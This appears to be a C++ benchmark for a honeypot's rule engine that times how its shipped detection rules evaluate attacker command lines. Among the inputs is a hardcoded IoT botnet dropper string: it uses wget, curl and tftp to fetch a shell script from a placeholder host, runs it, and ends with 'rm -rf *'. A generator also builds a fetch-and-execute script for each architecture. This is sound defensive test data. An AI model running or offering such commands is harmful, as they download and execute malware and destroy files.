// Cost of evaluating command lines with the shipped rules: thread time of one event, without reading it from text.
#include "bench/generated.hpp"
#include "support/shipped_rules.hpp"

#include <rulehost/engine.hpp>

#include <benchmark/benchmark.h>

#include <boost/json/parse.hpp>

#include <cstdlib>
#include <fstream>
#include <memory>
#include <sstream>
#include <string>
#include <vector>

namespace {

using namespace rulehost;

constexpr time_point now{std::chrono::sys_days{std::chrono::January / 1 / 2026}};

engine const& shipped() {
    static std::unique_ptr<engine> made;
    if (!made) {
        rule_snapshot snapshot;
        for (auto const& document : test::shipped_rules())
            if (document.definition)
                snapshot.rules.push_back(std::make_shared<compiled_rule>(document.definition, rule_state{}));
        made = std::make_unique<engine>();
        made->replace(snapshot);
    }
    return *made;
}

event command_event(std::string const& line, std::size_t number) {
    event e;
    e.source_kind = "command";
    e.source_id = std::to_string(number);
    e.attacker_uuid = "0b9c4f0e-6f3c-4cb2-9b5d-0c6a5f1f0d5e";
    e.session_id = "s1";
    e.decky_id = "sensor-1";
    e.payload = {{"command_text", line}, {"src", "198.51.100.23"}, {"user", "root"}};
    return e;
}

void evaluate_lines(benchmark::State& state, std::vector<std::string> const& lines) {
    if (lines.empty())
        return state.SkipWithError("no lines: RULEHOST_SHARED names no directory with them");
    auto const& host = shipped();
    std::vector<event> events;
    std::size_t bytes = 0;
    for (auto const& line : lines) {
        events.push_back(command_event(line, events.size()));
        bytes += line.size();
    }
    evaluation result;
    for (auto const& each : events)
        host.evaluate(each, now, result); // compiles expressions, which happens at their first use
    auto const asked = [&] {
        std::uint64_t sum = 0;
        for (auto const& rule : host.statistics())
            sum += rule.evaluations;
        return sum;
    };
    auto const asked_before = asked();
    std::size_t tags = 0;
    std::size_t i = 0;
    for (auto _ : state) {
        host.evaluate(events[i], now, result);
        tags += result.tags.size();
        i = i + 1 == events.size() ? 0 : i + 1;
    }
    state.SetItemsProcessed(state.iterations());
    state.counters["tags"] = static_cast<double>(tags) / static_cast<double>(state.iterations());
    state.counters["asked"] = static_cast<double>(asked() - asked_before) / static_cast<double>(state.iterations());
    state.counters["bytes"] = static_cast<double>(bytes) / static_cast<double>(events.size());
}

std::string const dropper =
    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.7/bins.sh; curl -O "
    "http://192.0.2.7/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 192.0.2.7 -c get tftp1.sh; chmod 777 tftp1.sh; "
    "sh tftp1.sh; rm -rf bins.sh tftp1.sh; rm -rf *";

/// A download script: one architecture after the other.
std::string download_script(std::size_t size) {
    std::string script = "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; ";
    for (std::size_t i = 0; script.size() < size; ++i) {
        auto const name = "arch" + std::to_string(i);
        script +=
            "wget http://192.0.2.7/" + name + "; chmod +x " + name + "; ./" + name + " iot; rm -rf " + name + "; ";
    }
    return script.substr(0, size);
}

/// Lines of a text file, or of the member `script` of each line of a JSON file, under RULEHOST_SHARED.
std::vector<std::string> shared_lines(std::string const& path) {
    auto const* const shared = std::getenv("RULEHOST_SHARED");
    std::vector<std::string> lines;
    std::ifstream file(std::string(shared ? shared : "../shared") + "/data/" + path);
    for (std::string line; std::getline(file, line);) {
        if (path.ends_with(".txt")) {
            lines.push_back(line);
            continue;
        }
        std::istringstream script{std::string(boost::json::parse(line).at("script").as_string())};
        for (std::string each; std::getline(script, each);)
            lines.push_back(each);
    }
    return lines;
}

int const registered = [] {
    auto const add = [](std::string const& name, auto make) {
        benchmark::RegisterBenchmark(("commands/" + name).c_str(),
                                     [make](benchmark::State& state) { evaluate_lines(state, make()); });
    };
    add("mundane", [] { return std::vector<std::string>{"ls -la /var/log", "cd /etc", "cat notes.txt", "df -h"}; });
    add("dropper", [] { return std::vector{dropper}; });
    add("script_4_KiB", [] { return std::vector{download_script(4096)}; });
    add("scripts_by_line", [] { return shared_lines("labelled/atomic-linux-dev.jsonl"); });
    add("everyday", [] { return shared_lines("everyday/tldr-dev.txt"); });
    return 0;
}();

} // namespace
